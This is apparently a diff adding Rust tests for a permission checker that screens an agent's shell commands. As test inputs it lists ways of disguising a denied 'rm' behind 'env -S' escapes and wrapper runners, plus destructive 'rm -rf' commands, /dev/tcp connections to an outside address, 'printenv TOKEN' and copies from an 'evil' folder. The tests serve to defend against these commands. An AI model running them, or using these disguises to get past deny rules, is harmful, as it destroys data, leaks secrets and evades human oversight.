@@ -1,0 +1,191 @@
+//! What looks harmless and is not: variables, texts, copies, connections and options that hide what they do, each kind
+//! with lines of it and with ordinary lines that it must leave alone.
+
+use crate::fixture::Session;
+use palisade_permissions::Mode;
+
+#[track_caller]
+fn all(session: &Session, lines: &[&str], expected: &str) {
+    for line in lines {
+        session.check(line, expected);
+    }
+}
+
+fn open(deny: &[&str]) -> Session {
+    Session::new().allow(&["Bash"]).deny(deny)
+}
+
+#[test]
+fn arithmetic_does_not_choose_what_runs() {
+    let session = Session::new().allow(&["Bash(npm test *)", "Bash(: *)"]);
+    let lines = [
+        "((PATH=1)); npm test",
+        "npm test $((PATH=1)); npm test",
+        ": $((PATH=1)) && npm test",
+        "case $((PATH=1)) in 1) npm test;; esac",
+        "for ((PATH=1; 1; 1)); do npm test; done",
+    ];
+    all(&session, &lines, "ask");
+    all(&Session::sandboxed(), &lines, "ask");
+    all(&session, &["((n=1)); npm test", "for ((i=0; i<3; i++)); do npm test; done"], "allow");
+}
+
+#[test]
+fn the_text_of_env_is_parted_as_env_parts_it() {
+    let lines = [
+        r"env -S 'rm\_x'",
+        r"env -S 'A=1 rm\_-r x\c y'",
+        r#"env -S '"rm" x'"#,
+        r"env -S '-i -u A rm x'",
+        r"env -iS 'r'\''m'\'' x' y",
+        r"env -S '-S\_rm x'",
+        r"env -S '${A} rm x'",
+        r"env -S 'rm \q x'",
+    ];
+    all(&open(&["Bash(rm *)"]), &lines, "deny");
+    all(&open(&["Bash(rm *)"]), &["env -S '${SHELL} -c ls'", "env -S '${A}' x"], "asks");
+    all(
+        &open(&["Bash(rm *)"]),
+        &[r"env -S 'echo rm\_x'", "env -S 'ls #rm x'", "env -S 'ls a\\c rm'"],
+        "allow",
+    );
+    let removing = [r"env -S 'rm\_-rf\_/'", r"env -S 'rm -rf ${HOME}'", r"env -S 'A=1 rm -rf .git'"];
+    all(&Session::new().mode(Mode::BypassPermissions), &removing, "ask a person");
+}
+
+#[test]
+fn runners_of_all_kinds_are_looked_behind() {
+    let lines = [
+        "capsh --drop=all -- -c 'rm x'",
+        "proot -r / -w / rm x",
+        "fakechroot -- rm x",
+        "cpulimit -l 5 -- rm x",
+        "chpst -u nobody rm x",
+        "setuidgid nobody rm x",
+        "envdir ./env rm x",
+        "perf stat -e cycles -- rm x",
+        "rr record rm x",
+        "ls | ifne rm x",
+        "rlwrap -a rm x",
+        "dtach -n s rm x",
+        "qemu-x86_64 -L / /bin/rm x",
+        "sandbox-exec -p '(version 1)' rm x",
+        "sem -j2 rm x",
+        "cross-env A=1 B=2 rm x",
+        "cross-env-shell A=1 'ls && rm x'",
+        "npx -y -p a -c 'ls && rm x'",
+        "npm exec --call='rm x'",
+        "palisade run rm x",
+        "palisade run --root . -- rm x",
+        "palisade run --allow-host a.example -c 'ls; rm x'",
+        "palisade run --json=2 -c 'palisade run -c \"rm x\"'",
+    ];
+    all(&open(&["Bash(rm *)"]), &lines, "deny");
+    let others = ["npx eslint -c rm", "qemu-img rm x", "npm run rm", "palisade check 'rm x'", "perf report"];
+    all(&open(&["Bash(rm *)"]), &others, "allow");
+    all(&Session::sandboxed(), &["perf stat -- make", "npx -c 'ls'", "sem make"], "allow");
+    let removing = ["palisade run -c 'rm -rf ~'", "rr record rm -rf /", "capsh -- -c 'rm -rf .git'"];
+    all(&Session::new().mode(Mode::BypassPermissions), &removing, "ask a person");
+}
+
+#[test]
+fn a_connection_is_asked_about_in_both_directions() {
+    let session = Session::new().allow(&["Bash(npm test *)"]);
+    let lines = [
+        "npm test < /dev/tcp/192.0.2.1/80",
+        "npm test > /dev/tcp/192.0.2.1/80",
+        "npm test <> /dev/udp/192.0.2.1/53",
+        "while true; do npm test; done < /dev/tcp/192.0.2.1/80",
+    ];
+    all(&session, &lines, "ask");
+    all(&session, &["npm test < in", "npm test < /dev/null"], "allow");
+}
+
+#[test]
+fn a_copy_may_write_whatever_lies_in_what_it_copies() {
+    let editing = Session::new().mode(Mode::AcceptEdits);
+    let lines = [
+        "cp -r evil/. .",
+        "cp -r evil/./ .",
+        "cp -r sub/.. other",
+        "cp -a evil/.. ./",
+        "cp evil/* .",
+        "mv evil/* .",
+        "cp evil/*.yml .",
+        "cp --parents a/.git/config d",
+        "rm *.toml",
+    ];
+    all(&editing, &lines, "ask");
+    let others =
+        ["cp evil/*.ts .", "cp src/* dst", "cp -r src dst", "cp a b c", "rm *.o", "mv src/*.js lib/"];
+    all(&editing, &others, "allow");
+    let session = open(&["Edit(./dst/locked)", "Edit(./dst/a/locked)"]);
+    let into =
+        ["cp -r x/. dst", "cp x/* dst", "mv x/l* dst", "rsync -a x/ dst", "rsync -a x/ dst/", "cp -r . dst"];
+    all(&session, &into, "asks");
+    all(&session, &["cp --parents a/locked dst", "rsync -R a/locked dst", "cp x/locked dst"], "deny");
+    all(
+        &session,
+        &["cp -r x/. other", "cp x/*.ts dst", "cp x/free dst", "rsync -a x dst", "cp x/* ."],
+        "allow",
+    );
+}
+
+#[test]
+fn options_do_not_hide_a_file_that_is_read() {
+    let outside = [
+        "od -w /etc/hosts",
+        "pr -n /etc/hosts",
+        "pr -e /etc/hosts",
+        "stat -t /etc/hosts",
+        "stat -f /etc/hosts",
+        "strings -o /etc/hosts",
+        "column -t /etc/hosts",
+        "base64 -i /etc/hosts",
+        "grep -nefoo /etc/hosts",
+        "grep -ne foo /etc/hosts",
+        "grep --reg=foo /etc/hosts",
+        "grep --regexp foo /etc/hosts",
+        "rg -nefoo /etc/hosts",
+        "rg --files /etc",
+        "rg --files -g x /etc",
+        "jq --arg a b . /etc/hosts",
+        "git symbolic-ref HEAD refs/heads/x",
+        "git symbolic-ref -d HEAD",
+        "git remote -v update",
+        "git remote --verbose rm origin",
+        "git remote -v add a b",
+        "git reflog expire --all",
+        "git reflog --output=x",
+        "ps auxe",
+        "ps eww",
+        "ps -E",
+        "printenv TOKEN",
+    ];
+    all(&Session::new(), &outside, "ask");
+    let inside = [
+        "column -t f",
+        "grep -nefoo f",
+        "grep -ne foo f",
+        "rg --files",
+        "rg --files src",
+        "jq --arg a b '.[$a]' f",
+        "jq --argjson a 1 --indent 2 . f",
+        "git symbolic-ref --short HEAD",
+        "git symbolic-ref HEAD",
+        "git remote -v",
+        "git remote get-url origin",
+        "git reflog -10",
+        "git reflog show main",
+        "git cherry main",
+        "git range-diff main...HEAD",
+        "ps aux",
+        "ps -ef",
+        "ps -o etime,cmd -p 1",
+        "ps aux --sort=-%mem",
+        "help cd",
+        "docker --version",
+        "docker -v",
+    ];
+    all(&Session::new(), &inside, "allow");
+}
